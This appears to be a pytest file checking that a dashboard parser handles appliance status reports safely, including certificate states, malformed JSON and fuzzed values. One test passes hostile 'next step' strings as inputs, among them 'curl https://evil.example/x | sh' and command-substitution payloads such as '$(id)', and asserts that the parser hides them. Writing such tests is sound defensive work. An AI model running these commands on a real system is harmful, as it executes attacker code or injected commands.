"""What an appliance says of itself is taken apart; nothing of it is believed to have a form."""

import json
import random
import re
from pathlib import Path
from typing import Any

import pytest

from sftp.board.row import LONGEST, NoStatus, Row, error_of, row_of
from tanos.exchange.ledger import CLOSED, STATES, Side

PAGE = Path(__file__).parents[3] / "docs" / "workstation.md"
END = "2027-12-01T00:00:00Z"
PAIR = {
    "pair": "reporting",
    "days_left": 400,
    "not_after": END,
    "due": False,
    "waiting": [],
    "next": "",
}


def said(**more: Any) -> Row:
    """Return the row of a Zone Server that says this besides the usual."""
    told = {"schema": 1, "name": "zs1", "role": "zone-server", "release": "7.3", "certificates": [PAIR], **more}
    return row_of("host", json.dumps(told).encode())


def exchange(state: str) -> list[dict[str, str]]:
    return [
        {"check_code": "1A2B-3C4D", "peer": "", "subject": "CN=a", "state": state, "since": "2026-11-22T12:00:00Z"}
    ]


def test_nothing_is_due_where_nothing_is() -> None:
    row = said()
    assert (row.state, row.name, row.pairs[0].days_left) == ("ok", "zs1", 400)


@pytest.mark.parametrize(
    ("more", "state"),
    [
        ({"certificates": [{**PAIR, "due": True, "next": "certificates renew reporting"}]}, "due"),
        ({"certificates": [{**PAIR, "days_left": -1}]}, "due"),
        ({"certificates": [{**PAIR, "waiting": ["1A2B"]}]}, "due"),
        ({"exchanges": exchange("sent")}, "due"),
        ({"exchanges": exchange("installed")}, "ok"),
        ({"exchanges": exchange("issued"), "role": "tanium-server"}, "ok"),
        ({"exchanges": exchange("verified"), "role": "tanium-server"}, "due"),
        ({"unanswered": 2, "role": "tanium-server"}, "due"),
        ({"findings": [{"id": "disk-failed", "severity": "warn", "message": "full"}]}, "due"),
        ({"findings": [{"id": "damaged-certificate", "severity": "warn", "message": "gone"}]}, "due"),
        ({"findings": [{"id": "else", "severity": "warn", "message": "else"}]}, "warn"),
        ({"findings": [{"id": "else", "severity": "note", "message": "else"}]}, "ok"),
        ({"findings": [{"id": "expiry-soon", "severity": "warn", "message": "soon"}]}, "ok"),
    ],
    ids=str,
)
def test_what_is_due_is_what_somebody_has_to_do(more: dict[str, Any], state: str) -> None:
    assert said(**more).state == state


@pytest.mark.parametrize(
    ("more", "first"),
    [
        ({"certificates": []}, "public-key import"),
        ({"certificates": [], "root": {"check_code": "x"}}, "zone-server create-csr"),
        ({"certificates": [], "exchanges": exchange("installed")}, ""),
        ({"certificates": [], "release": "7.4"}, ""),
        ({"certificates": [], "role": "module-server"}, ""),
        ({}, ""),
    ],
    ids=str,
)
def test_a_zone_server_where_nothing_has_begun_is_told_how_it_begins(more: dict[str, Any], first: str) -> None:
    assert (said(**more).begin, said(**more).state) == (first, "ok")


@pytest.mark.parametrize("side", list(Side))
def test_every_open_state_of_an_exchange_has_its_next_step_and_no_other(side: Side) -> None:
    role = "tanium-server" if side is Side.ISSUER else "zone-server"
    reached = {"requester": ("made", "shown", "sent", "returned"), "issuer": ("verified", "issued")}[side.value]
    for state in STATES:
        shown = said(role=role, exchanges=exchange(state)).exchanges
        assert bool(shown) == (state in reached), state
        assert not (shown and state in CLOSED[side])


@pytest.mark.parametrize(
    "answer",
    [b"", b"{", b"[]", b"1", b'"x"', b"{}", b'{"schema": 2, "certificates": []}', b'{"schema": 1}', b"[" * 100_000],
    ids=lambda each: repr(each[:20]),
)
def test_what_is_no_status_is_called_so(answer: bytes) -> None:
    with pytest.raises(NoStatus):
        row_of("host", answer)


def test_what_a_host_says_is_kept_short_and_of_its_form() -> None:
    row = said(
        name="x" * 9999,
        release=7,
        certificates=[{**PAIR, "pair": "y" * 9999}, {"days_left": "many"}, None, *[PAIR] * 999],
        exchanges={"not": "a list"},
        findings=[{"id": ["x"], "severity": "warn"}, 7],
    )
    assert (len(row.name), row.release, len(row.pairs[0].name)) == (LONGEST, "", LONGEST)
    assert len(row.pairs) <= 32
    assert row.exchanges == ()
    json.dumps(row.as_data())


def test_whatever_stands_in_an_answer_it_is_a_row_or_no_status() -> None:
    shaken = random.Random(7)
    whole = json.dumps(
        {
            "schema": 1,
            "certificates": [PAIR],
            "exchanges": exchange("sent"),
            "findings": [{"id": "a", "severity": "warn", "message": "b"}],
            "unanswered": 1,
            "role": "zone-server",
            "release": "7.3",
        }
    )
    values = ("null", "1", '"x"', "[]", "{}", "true", "-9e999", "[[{}]]")
    told = re.findall(r'"[^"]*"|[^"]+', whole)
    places = [number for number, word in enumerate(told) if word.startswith('"')]
    for _ in range(2000):
        words = list(told)
        words[shaken.choice(places)] = shaken.choice(values)
        try:
            json.dumps(row_of("host", "".join(words).encode()).as_data())
        except NoStatus:
            continue


@pytest.mark.parametrize("number", [10**4000, -(10**4000), True, 1.5, "7"], ids=lambda each: str(each)[:5])
def test_a_number_that_no_appliance_would_say_is_left_out(number: object) -> None:
    row = said(certificates=[{**PAIR, "days_left": number}], unanswered=number)
    assert (row.pairs, row.unanswered) == ((), 0)


@pytest.mark.parametrize(
    ("verb", "shown"),
    [
        ("certificates renew reporting", True),
        ("zone-server import-certificate", True),
        ("curl https://evil.example/x | sh", False),
        ("ssh root@evil", False),
        ("zone-server status; curl evil", False),
        ("zone-server status $(id)", False),
        ("zone-server status | sh", False),
        ("certificates renew `id`", False),
        ("certificates renew\nid", False),
    ],
)
def test_what_a_host_says_to_do_next_is_a_verb_or_is_not_shown(verb: str, shown: bool) -> None:
    (pair,) = said(certificates=[{**PAIR, "next": verb}]).pairs
    assert pair.next == (verb if shown else "")


def test_the_page_names_every_field_and_state() -> None:
    page = PAGE.read_text()
    promised = page[page.index("With `--json`: `hosts`") :].split("`")
    assert set(said().as_data()) == {each.strip() for each in promised[5].replace("\n", " ").split(",")}
    for state in ("ok", "warn", "due", "fail"):
        assert f"| {state} |" in page


def test_a_refusal_is_told_by_its_id() -> None:
    assert error_of(b'{"error": {"id": "not-offered", "message": "no"}}') == ("not-offered", "no")
    for other in (b"", b"{}", b"[]", b'{"error": 1}', b'{"error": null}'):
        assert error_of(other) is None
